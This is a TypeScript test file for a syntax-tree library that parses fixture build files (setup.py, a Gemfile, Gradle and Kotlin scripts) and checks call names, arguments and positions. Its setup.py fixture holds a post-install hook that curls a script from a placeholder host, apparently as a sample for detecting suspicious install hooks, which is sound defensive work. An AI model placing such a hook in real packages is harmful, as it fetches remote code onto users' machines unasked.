import { describe, expect, it } from 'vitest';
import {
  CALL_TYPES,
  ancestor,
  callArguments,
  callName,
  childByField,
  findAll,
  parseSource,
  stringValue,
  type Language,
  type SyntaxNode,
} from './index.js';

async function parse(language: Language, text: string): Promise<SyntaxNode> {
  const result = await parseSource(language, text);
  if (!result.ok) throw new Error(result.reason);
  expect(result.hasError).toBe(false);
  return result.tree;
}

function calls(root: SyntaxNode, language: Language): SyntaxNode[] {
  return findAll(root, CALL_TYPES[language]);
}

const SETUP_PY = `import os
import subprocess
from setuptools import setup, find_packages
from setuptools.command.install import install

VERSION = os.environ.get("DEMO_VERSION", "1.0")


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.check_call(["curl", "-fsSL", "https://example.invalid/x.sh"])


setup(
    name="demo-api",
    version=VERSION,
    description=f"Demo {VERSION}",
    packages=find_packages(exclude=["tests"]),
    install_requires=["flask==3.0.3", 'requests>=2.31'],
    cmdclass={"install": PostInstall},
)
`;

describe('syntax/python setup.py', () => {
  it('finds setup() with its keyword arguments, literal values and positions', async () => {
    const root = await parse('python', SETUP_PY);
    expect(root.type).toBe('module');
    expect(calls(root, 'python').map((c) => callName(c, 'python'))).toEqual([
      'os.environ.get',
      'install.run',
      'subprocess.check_call',
      'setup',
      'find_packages',
    ]);
    const setup = calls(root, 'python').find((c) => callName(c, 'python') === 'setup')!;
    expect(setup).toMatchObject({ type: 'call', startLine: 15, startColumn: 1, endLine: 22, endColumn: 2 });
    const args = callArguments(setup, 'python');
    expect(args.every((a) => a.type === 'keyword_argument')).toBe(true);
    const kw = new Map(args.map((a) => [childByField(a, 'name')!.text, childByField(a, 'value')!]));
    expect([...kw.keys()]).toEqual(['name', 'version', 'description', 'packages', 'install_requires', 'cmdclass']);
    expect(stringValue(kw.get('name')!, 'python')).toBe('demo-api');
    expect(kw.get('name')).toMatchObject({ type: 'string', startLine: 16, startColumn: 10, endColumn: 20 });
    expect(stringValue(kw.get('version')!, 'python')).toBeUndefined(); // an identifier
    expect(stringValue(kw.get('description')!, 'python')).toBeUndefined(); // an f-string
    expect(findAll(kw.get('install_requires')!, 'string').map((s) => stringValue(s, 'python'))).toEqual([
      'flask==3.0.3',
      'requests>=2.31',
    ]);
    const cmdclass = kw.get('cmdclass')!;
    expect(cmdclass).toMatchObject({ type: 'dictionary', startLine: 21, startColumn: 14 });
    const pair = findAll(cmdclass, 'pair')[0]!;
    expect(stringValue(childByField(pair, 'key')!, 'python')).toBe('install');
    expect(childByField(pair, 'value')).toMatchObject({ type: 'identifier', text: 'PostInstall' });
    // The process call sits inside the command class that cmdclass installs.
    const curl = calls(root, 'python').find((c) => callName(c, 'python') === 'subprocess.check_call')!;
    expect(ancestor(curl, ['class_definition'])?.namedChildren[0]?.text).toBe('PostInstall');
    expect(callArguments(curl, 'python')[0]!.namedChildren.map((s) => stringValue(s, 'python'))).toEqual([
      'curl',
      '-fsSL',
      'https://example.invalid/x.sh',
    ]);
  });

  it('names dotted callees whatever the spacing and refuses computed callees', async () => {
    const root = await parse('python', 'os . system("a")\ngetattr(os, "system")("b")\nf()()\n');
    expect(calls(root, 'python').map((c) => callName(c, 'python'))).toEqual([
      'os.system',
      undefined,
      'getattr',
      undefined,
      'f',
    ]);
  });
});

const GEMFILE = `# frozen_string_literal: true
source "https://rubygems.org"
ruby "3.2.0"

gem "rails", "~> 7.1"
gem "pg", ">= 1.1", require: false
gem 'internal', git: "https://github.com/#{org}/internal.git"

group :development, :test do
  gem "rspec-rails", github: "rspec/rspec-rails", branch: 'main'
end

source "https://gems.example.com" do
  gem "private-gem"
end
`;

describe('syntax/ruby Gemfile', () => {
  it('reads source, gem and group calls, options as pairs, and nesting', async () => {
    const root = await parse('ruby', GEMFILE);
    expect(root.type).toBe('program');
    const all = calls(root, 'ruby');
    expect(all.map((c) => callName(c, 'ruby'))).toEqual([
      'source',
      'ruby',
      'gem',
      'gem',
      'gem',
      'group',
      'gem',
      'source',
      'gem',
    ]);
    expect(all.map((c) => stringValue(callArguments(c, 'ruby')[0]!, 'ruby'))).toEqual([
      'https://rubygems.org',
      '3.2.0',
      'rails',
      'pg',
      'internal',
      'development',
      'rspec-rails',
      'https://gems.example.com',
      'private-gem',
    ]);
    const pg = callArguments(all[3]!, 'ruby');
    expect(pg.map((a) => a.type)).toEqual(['string', 'string', 'pair']);
    expect(stringValue(childByField(pg[2]!, 'key')!, 'ruby')).toBe('require');
    expect(childByField(pg[2]!, 'value')).toMatchObject({ type: 'false' });
    const internal = callArguments(all[4]!, 'ruby')[1]!;
    expect(stringValue(childByField(internal, 'value')!, 'ruby')).toBeUndefined(); // "#{org}" is interpolated
    const rspec = all[6]!;
    expect(rspec).toMatchObject({ startLine: 10, startColumn: 3, endLine: 10, endColumn: 65 });
    expect(callName(ancestor(rspec, ['call'])!, 'ruby')).toBe('group');
    expect(
      callArguments(rspec, 'ruby')
        .slice(1)
        .map((p) => [childByField(p, 'key')!.text, stringValue(childByField(p, 'value')!, 'ruby')]),
    ).toEqual([
      ['github', 'rspec/rspec-rails'],
      ['branch', 'main'],
    ]);
    // A block-scoped source: the gem inside is a descendant of the source call's do-block.
    expect(childByField(all[7]!, 'block')?.type).toBe('do_block');
    expect(callName(ancestor(all[8]!, ['call'])!, 'ruby')).toBe('source');
  });

  it('keeps static receivers and reads backticks as subshells', async () => {
    const root = await parse(
      'ruby',
      'Kernel.system "ls"\nNet::HTTP.get(uri)\nspec.files = `git ls-files -z`.split("\\x0")\nx.y.z 2\n',
    );
    expect(calls(root, 'ruby').map((c) => callName(c, 'ruby'))).toEqual([
      'Kernel.system',
      'Net::HTTP.get',
      'spec.files',
      'split',
      'z',
      'x.y',
    ]);
    expect(findAll(root, 'subshell')).toHaveLength(1);
  });
});

const BUILD_GRADLE = `plugins {
    id 'java'
    id 'org.springframework.boot' version '3.2.0'
}

repositories {
    mavenCentral()
    maven { url 'https://repo.example.com/releases' }
    maven { url "https://repo.example.com/$channel" }
}

dependencies {
    implementation 'com.squareup.okhttp3:okhttp:4.12.0'
    testImplementation("org.junit.jupiter:junit-jupiter:5.10.0")
}
`;

describe('syntax/groovy build.gradle', () => {
  it('reads plugins, repositories and dependencies; single quotes are character_literal, GStrings are not literal', async () => {
    const root = await parse('groovy', BUILD_GRADLE);
    expect(root.type).toBe('program');
    const all = calls(root, 'groovy');
    expect(all.map((c) => `${c.type}:${callName(c, 'groovy')}`)).toEqual([
      'method_invocation:plugins',
      'juxt_function_call:id',
      'juxt_function_call:id',
      'juxt_function_call:version',
      'method_invocation:repositories',
      'method_invocation:mavenCentral',
      'method_invocation:maven',
      'juxt_function_call:url',
      'method_invocation:maven',
      'juxt_function_call:url',
      'method_invocation:dependencies',
      'juxt_function_call:implementation',
      'method_invocation:testImplementation',
    ]);
    const value = (c: SyntaxNode) => stringValue(callArguments(c, 'groovy')[0]!, 'groovy');
    // `id 'x' version 'y'` is two sibling command calls in this grammar.
    const [, , boot, version] = all;
    expect([value(boot!), value(version!)]).toEqual(['org.springframework.boot', '3.2.0']);
    expect(callArguments(boot!, 'groovy')[0]).toMatchObject({
      type: 'character_literal',
      startLine: 3,
      startColumn: 8,
    });
    expect(version).toMatchObject({ startLine: 3, startColumn: 35 });
    const urls = all.filter((c) => callName(c, 'groovy') === 'url');
    expect(urls.map(value)).toEqual(['https://repo.example.com/releases', undefined]);
    expect(callName(ancestor(urls[0]!, CALL_TYPES.groovy)!, 'groovy')).toBe('maven');
    expect(value(all[11]!)).toBe('com.squareup.okhttp3:okhttp:4.12.0');
    expect(callArguments(all[12]!, 'groovy')[0]).toMatchObject({
      type: 'string_literal',
      startLine: 14,
      startColumn: 24,
    });
    expect(value(all[12]!)).toBe('org.junit.jupiter:junit-jupiter:5.10.0');
  });
});

const BUILD_GRADLE_KTS = `plugins {
    kotlin("jvm") version "2.0.0"
    id("org.springframework.boot") version "3.2.0"
}

repositories {
    mavenCentral()
    maven("https://repo.example.com/releases")
    maven { url = uri("https://repo.example.com/$channel") }
}

dependencies {
    implementation("com.squareup.okhttp3:okhttp:4.12.0")
    testImplementation(kotlin("test"))
}
`;

describe('syntax/kotlin build.gradle.kts', () => {
  it('reads call expressions, trailing lambdas and literal arguments; templates are not literal', async () => {
    const root = await parse('kotlin', BUILD_GRADLE_KTS);
    expect(root.type).toBe('source_file');
    const all = calls(root, 'kotlin');
    expect(all.map((c) => callName(c, 'kotlin'))).toEqual([
      'plugins',
      'kotlin',
      'id',
      'repositories',
      'mavenCentral',
      'maven',
      'maven',
      'uri',
      'dependencies',
      'implementation',
      'testImplementation',
      'kotlin',
    ]);
    const first = (name: string, nth = 0) =>
      callArguments(all.filter((c) => callName(c, 'kotlin') === name)[nth]!, 'kotlin')[0];
    expect(stringValue(first('maven')!, 'kotlin')).toBe('https://repo.example.com/releases');
    expect(first('maven')).toMatchObject({ type: 'string_literal', startLine: 8, startColumn: 11, endColumn: 46 });
    expect(callArguments(all[6]!, 'kotlin')).toEqual([]); // maven { … } has only a lambda
    expect(all[6]!.children.map((c) => c.type)).toEqual(['identifier', 'annotated_lambda']);
    expect(stringValue(first('uri')!, 'kotlin')).toBeUndefined();
    expect(stringValue(first('implementation')!, 'kotlin')).toBe('com.squareup.okhttp3:okhttp:4.12.0');
    expect(all[9]).toMatchObject({ startLine: 13, startColumn: 5, endLine: 13, endColumn: 57 });
    expect(first('testImplementation')!.type).toBe('call_expression');
    expect(stringValue(first('id')!, 'kotlin')).toBe('org.springframework.boot');
  });
});
